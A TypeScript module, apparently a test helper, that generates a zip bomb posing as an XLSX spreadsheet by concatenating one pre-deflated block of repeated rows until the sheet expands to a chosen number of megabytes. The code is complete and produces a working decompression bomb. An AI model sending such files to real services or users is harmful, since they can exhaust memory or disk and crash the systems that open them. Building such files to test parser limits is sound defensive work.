// A zip bomb posing as an XLSX workbook, built in a second: its sheet is `repeat` copies of a row, which
// deflate once with a full flush (byte-aligned, no reference to earlier data) so the compressed copies
// can simply be concatenated. The sizes in its headers are honest, as a real bomb's would be.
import { constants, crc32, deflateRawSync } from "node:zlib";

interface Entry {
  name: string;
  method: 0 | 8;
  data: Buffer;
  crc: number;
  size: number;
}

function stored(name: string, text: string): Entry {
  const data = Buffer.from(text);
  return { name, method: 0, data, crc: crc32(data), size: data.length };
}

function repeated(name: string, head: string, unit: string, repeat: number, tail: string): Entry {
  const headBytes = Buffer.from(head);
  const unitBytes = Buffer.from(unit);
  const tailBytes = Buffer.from(tail);
  const flush = { finishFlush: constants.Z_FULL_FLUSH, level: 9 };
  const parts = [deflateRawSync(headBytes, flush)];
  const unitDeflated = deflateRawSync(unitBytes, flush);
  let crc = crc32(headBytes);
  for (let i = 0; i < repeat; i++) {
    parts.push(unitDeflated);
    crc = crc32(unitBytes, crc);
  }
  parts.push(deflateRawSync(tailBytes)); // final block
  crc = crc32(tailBytes, crc);
  return { name, method: 8, data: Buffer.concat(parts), crc, size: headBytes.length + unitBytes.length * repeat + tailBytes.length };
}

function zip(entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(0x0800, 6);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt32LE(e.crc >>> 0, 14);
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.size, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(0x0800, 8);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt32LE(e.crc >>> 0, 16);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.size, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += 30 + name.length + e.data.length;
  }
  const cd = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(cd.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, cd, end]);
}

const NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
const REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

/** A workbook whose one sheet holds `header` in row 1, then about `megabytes` MB of the same data row. */
export function zipBombXlsx(header: string[], row: string[], megabytes: number): Buffer {
  const cells = (values: string[], r: number) =>
    values.map((v, i) => `<c r="${String.fromCharCode(65 + (i % 26))}${r}" t="inlineStr"><is><t>${v}</t></is></c>`).join("");
  // One megabyte of rows deflates to about a kilobyte; the bomb repeats that kilobyte.
  const rowXml = `<row r="2">${cells(row, 2)}</row>`;
  const unit = rowXml.repeat(Math.ceil((1 << 20) / rowXml.length));
  const repeat = Math.ceil((megabytes * 1024 * 1024) / unit.length);
  return zip([
    stored("[Content_Types].xml", `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>`),
    stored("_rels/.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/officeDocument" Target="xl/workbook.xml"/></Relationships>`),
    stored("xl/workbook.xml", `<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="${NS}" xmlns:r="${REL}"><sheets><sheet name="台账" sheetId="1" r:id="rId1"/></sheets></workbook>`),
    stored("xl/_rels/workbook.xml.rels", `<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="${REL}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`),
    repeated("xl/worksheets/sheet1.xml", `<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="${NS}"><sheetData><row r="1">${cells(header, 1)}</row>`, unit, repeat, `</sheetData></worksheet>`),
  ]);
}
